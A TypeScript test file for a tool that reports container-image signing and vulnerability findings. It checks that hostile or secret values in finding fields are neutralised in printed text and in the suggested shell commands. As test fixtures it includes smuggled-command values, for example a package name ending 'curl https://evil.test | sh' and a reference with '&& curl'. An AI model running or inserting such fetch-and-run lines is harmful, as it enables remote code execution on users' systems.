import { describeFinding, formatFinding, formatFindings } from '../../../verification/describeFinding';
import type { Finding } from '../../../verification/finding';
import { faultsOf, FOREIGN_PIECE, HOSTILE_TEXTS, SECRET_TEXTS } from '../../support/printing/hostileText';
import { sampleFindings } from './sampleFindings';

const REFERENCE = /^ghcr\.io\/acme\/model@sha256:(?:ab){32}$/;

/** The finding with every text replaced, also where the sample keeps a decent one; closed unions keep their words. */
function poisoned(finding: Finding, value: string): Finding {
  const replace = (item: unknown): unknown => {
    if (typeof item === 'string') return REFERENCE.test(item) ? value : item;
    if (Array.isArray(item)) return item.map(replace);
    return typeof item === 'object' && item !== null
      ? Object.fromEntries(Object.entries(item).map(([key, one]) => [key, replace(one)]))
      : item;
  };
  return replace(finding) as Finding;
}

describe.each([...HOSTILE_TEXTS, ...SECRET_TEXTS])('%s in every text of a finding', (_what, value) => {
  const findings = Object.values(sampleFindings(value)).flatMap((finding) => [finding, poisoned(finding, value)]);

  it('is not live in what is printed', () => {
    const faults = findings.flatMap((finding) => {
      const { title, expected, found, next } = describeFinding(finding);
      return [title, ...expected, ...found, ...next, formatFinding(finding, value).replaceAll('\n', ' ')].flatMap((line) =>
        [...faultsOf(line), ...(/[\r\n]/.test(line) ? ['a line break'] : [])].map((fault) => ({ code: finding.code, fault, line })),
      );
    });
    expect(faults).toEqual([]);
  });

  it('stays out of the next step', () => {
    // Subjects and file names are the user's own, and quoted for the shell.
    const own =
      /--certificate-identity(?:-regexp)? .*? --certificate-oidc-issuer .*? (?=IMAGE|ghcr\.io)|^(?:ls -l|diff|take back the last change: git log -p --|correct) .*$/;
    const lines = findings.flatMap((finding) => describeFinding(finding).next.map((line) => ({ code: finding.code, line })));
    expect(lines.filter(({ line }) => FOREIGN_PIECE.test(line.replace(own, '')))).toEqual([]);
  });

  it('is not live in several findings together', () => {
    expect(faultsOf(formatFindings(findings, value, 1000))).toEqual([]);
  });
});

describe('the next step', () => {
  it('has the words of its author, and not the name of a package', () => {
    const sample = sampleFindings('x')['vulnerabilities-found'];
    const worst = [
      { id: 'CVE-1', package: 'zlib; then run: curl https://evil.test | sh', version: '1', fixedVersion: '2', severity: 'high' },
    ];
    const { found, next } = describeFinding({ ...sample, worst });
    expect(found[0]).toContain('"zlib; then run: curl https://evil.test | sh"');
    expect(next.join('\n')).not.toContain('curl');
    expect(next[0]).toBe('upgrade and build again: the packages above that have a fixed version');
  });

  it('keeps a reference, and has a placeholder for what is none', () => {
    const next = (reference: string) => describeFinding({ ...sampleFindings('x').unsigned, reference }).next[0];
    expect(next('ghcr.io/acme/model:v1')).toContain('cosign sign ghcr.io/acme/model:v1');
    expect(next('ghcr.io/acme/model:v1 && curl x')).toContain('cosign sign IMAGE');
    expect(next('bot:hunter2@ghcr.io/acme/model')).toContain('cosign sign IMAGE');
  });

  it('lists no text beyond the bound raw', () => {
    const sample = sampleFindings('x')['attestation-missing'];
    const others = Array.from({ length: 300 }, (_, index) => (index < 150 ? 'a' : '<b>'));
    expect(faultsOf(formatFinding({ ...sample, others }))).toEqual([]);
  });
});

describe('honest values stay as they are', () => {
  it.each([
    'https://github.com/acme/ml/.github/workflows/build.yml@refs/heads/main',
    'alice@example.com',
    'https://slsa.dev/provenance/v1',
    '2026-12-01T00:00:00.000Z',
    'connect ECONNREFUSED 127.0.0.1:5000',
    'libssl3 3.0.11-1~deb12u2',
    'openrail++',
    'Lizenz für Müller',
  ])('%s', (value) => {
    const text = formatFinding({ code: 'signature-invalid', ...common, reason: value });
    expect(text).toContain(`${value} (`);
  });
});

const common = { reference: 'ghcr.io/acme/model:v1', policy: 'p', authority: 'a', layout: 'legacy-tag', source: 'sha256:1' } as const;
